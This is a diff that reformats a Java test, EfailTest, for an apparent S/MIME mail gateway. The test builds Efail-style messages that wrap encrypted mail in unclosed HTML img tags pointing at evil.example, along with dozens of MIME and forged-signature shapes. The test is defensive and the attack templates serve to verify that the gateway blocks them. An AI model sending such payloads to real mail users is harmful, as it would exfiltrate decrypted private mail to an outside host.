@@ -20,11 +20,13 @@ import org.postseal.gateway.smime.Sendable;
 class EfailTest {
     private static final String SECRET = "the secret 7f3a";
     private static final String FOREIGN = "attacker 91bc";
-    private static final String HEADERS = "From: Eve <eve@evil.example>\r\nTo: alice@example.com\r\nSubject: <img src=\"http://"
-            + FOREIGN + "/\r\nMIME-Version: 1.0\r\n";
+    private static final String HEADERS =
+            "From: Eve <eve@evil.example>\r\nTo: alice@example.com\r\nSubject: <img src=\"http://" + FOREIGN
+                    + "/\r\nMIME-Version: 1.0\r\n";
     private static final String CONTENT = "Content-Type: text/html\r\n\r\n<p>" + SECRET + "</p>\r\n";
     private static final String CIPHERTEXT = ciphertext();
-    private static final String OPEN = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/" + FOREIGN + "?\r\n";
+    private static final String OPEN =
+            "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/" + FOREIGN + "?\r\n";
     private static final String CLOSE = "Content-Type: text/html\r\n\r\n" + FOREIGN + "\">\r\n";
 
     record Shape(String name, String message) {
@@ -45,22 +47,39 @@ class EfailTest {
                 shape("alone in a multipart", multipart("mixed", CIPHERTEXT)),
                 shape("alone in a multipart in a multipart", multipart("mixed", multipart2(CIPHERTEXT))),
                 shape("twice, to be quoted in an answer", multipart("mixed", CIPHERTEXT, CIPHERTEXT, OPEN)),
-                shape("in an attached message", multipart("mixed", OPEN, "Content-Type: message/rfc822\r\n\r\n" + HEADERS + CIPHERTEXT)),
-                shape("in a message that is the content", "Content-Type: message/rfc822\r\n\r\n" + HEADERS + CIPHERTEXT),
-                shape("in a multipart/encrypted", multipart("encrypted; protocol=\"application/pkcs7-mime\"", OPEN, CIPHERTEXT)),
+                shape(
+                        "in an attached message",
+                        multipart("mixed", OPEN, "Content-Type: message/rfc822\r\n\r\n" + HEADERS + CIPHERTEXT)),
+                shape(
+                        "in a message that is the content",
+                        "Content-Type: message/rfc822\r\n\r\n" + HEADERS + CIPHERTEXT),
+                shape(
+                        "in a multipart/encrypted",
+                        multipart("encrypted; protocol=\"application/pkcs7-mime\"", OPEN, CIPHERTEXT)),
                 shape("below a signature", signed),
                 shape(
                         "below an opaque signature",
                         SpoofForge.opaqueEntity(SpoofForge.attached(
-                                multipart("mixed", OPEN, CIPHERTEXT, CLOSE),
-                                SpoofForge.Signer.of(SpoofForge.EVE)))),
-                shape("as a part of signed parts that are three", multipart(
-                        "signed; protocol=\"application/pkcs7-signature\"", CIPHERTEXT, OPEN, SpoofForge.SIGNATURE_FIELDS + "\r\nAAAA\r\n")),
-                shape("as the signature", multipart(
-                        "signed; protocol=\"application/pkcs7-signature\"", OPEN, CIPHERTEXT)),
+                                multipart("mixed", OPEN, CIPHERTEXT, CLOSE), SpoofForge.Signer.of(SpoofForge.EVE)))),
+                shape(
+                        "as a part of signed parts that are three",
+                        multipart(
+                                "signed; protocol=\"application/pkcs7-signature\"",
+                                CIPHERTEXT,
+                                OPEN,
+                                SpoofForge.SIGNATURE_FIELDS + "\r\nAAAA\r\n")),
+                shape(
+                        "as the signature",
+                        multipart("signed; protocol=\"application/pkcs7-signature\"", OPEN, CIPHERTEXT)),
                 shape("behind the type of a text", "Content-Type: text/html\r\n" + CIPHERTEXT),
-                shape("as an attachment by name", multipart("mixed", OPEN, CIPHERTEXT.replace(
-                        "Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data;", "Content-Type: application/octet-stream;"))));
+                shape(
+                        "as an attachment by name",
+                        multipart(
+                                "mixed",
+                                OPEN,
+                                CIPHERTEXT.replace(
+                                        "Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data;",
+                                        "Content-Type: application/octet-stream;"))));
     }
 
     @ParameterizedTest
@@ -76,20 +95,29 @@ class EfailTest {
 
     /** Ciphertext at the root, with octets of the attacker wherever there is room for some. */
     static Stream<Shape> root() {
-        String eve = new String(SpoofForge.detached(CIPHERTEXT, SpoofForge.Signer.of(SpoofForge.EVE)), StandardCharsets.ISO_8859_1);
+        String eve = new String(
+                SpoofForge.detached(CIPHERTEXT, SpoofForge.Signer.of(SpoofForge.EVE)), StandardCharsets.ISO_8859_1);
         String signed = SpoofForge.clearEntity(CIPHERTEXT, TestRoad.octets(eve));
         return Stream.of(
                 shape("alone", CIPHERTEXT),
                 shape("with text behind its base64", CIPHERTEXT + "==\r\n" + FOREIGN + "\r\n"),
-                shape("with a second type behind", CIPHERTEXT.replace("\r\n\r\n", "\r\nContent-Type: text/html; x=\"" + FOREIGN + "\"\r\n\r\n")),
-                shape("with more fields of the content", "Content-ID: <" + FOREIGN + ">\r\nContent-Location: http://" + FOREIGN + "/\r\nContent-Base: http://"
-                        + FOREIGN + "/\r\n" + CIPHERTEXT),
+                shape(
+                        "with a second type behind",
+                        CIPHERTEXT.replace("\r\n\r\n", "\r\nContent-Type: text/html; x=\"" + FOREIGN + "\"\r\n\r\n")),
+                shape(
+                        "with more fields of the content",
+                        "Content-ID: <" + FOREIGN + ">\r\nContent-Location: http://" + FOREIGN
+                                + "/\r\nContent-Base: http://" + FOREIGN + "/\r\n" + CIPHERTEXT),
                 shape("with fields of header protection", "HP-Outer: Subject: " + FOREIGN + "\r\n" + CIPHERTEXT),
                 shape("in a signature of the attacker", signed),
-                shape("in a signature with text before it", signed.replaceFirst("--sig\r\n", FOREIGN + "\r\n--sig\r\n")),
+                shape(
+                        "in a signature with text before it",
+                        signed.replaceFirst("--sig\r\n", FOREIGN + "\r\n--sig\r\n")),
                 shape("in a signature with text behind it", signed + FOREIGN + "\r\n"),
-                shape("in an opaque signature", SpoofForge.opaqueEntity(
-                        SpoofForge.attached(CIPHERTEXT, SpoofForge.Signer.of(SpoofForge.EVE)))));
+                shape(
+                        "in an opaque signature",
+                        SpoofForge.opaqueEntity(
+                                SpoofForge.attached(CIPHERTEXT, SpoofForge.Signer.of(SpoofForge.EVE)))));
     }
 
     @ParameterizedTest
@@ -164,8 +192,9 @@ class EfailTest {
                         .replace("=sig\r\n", "=s" + depth + "ig\r\n")
                         .replace("--sig", "--s" + depth + "ig");
             }
-            case 4 -> SpoofForge.opaqueEntity(
-                    SpoofForge.attached(tree(random, depth + 1), SpoofForge.Signer.of(SpoofForge.EVE)));
+            case 4 ->
+                SpoofForge.opaqueEntity(
+                        SpoofForge.attached(tree(random, depth + 1), SpoofForge.Signer.of(SpoofForge.EVE)));
             case 5 -> "Content-Type: message/rfc822\r\n\r\n" + HEADERS + tree(random, depth + 1);
             default -> {
                 List<String> parts = new ArrayList<>();
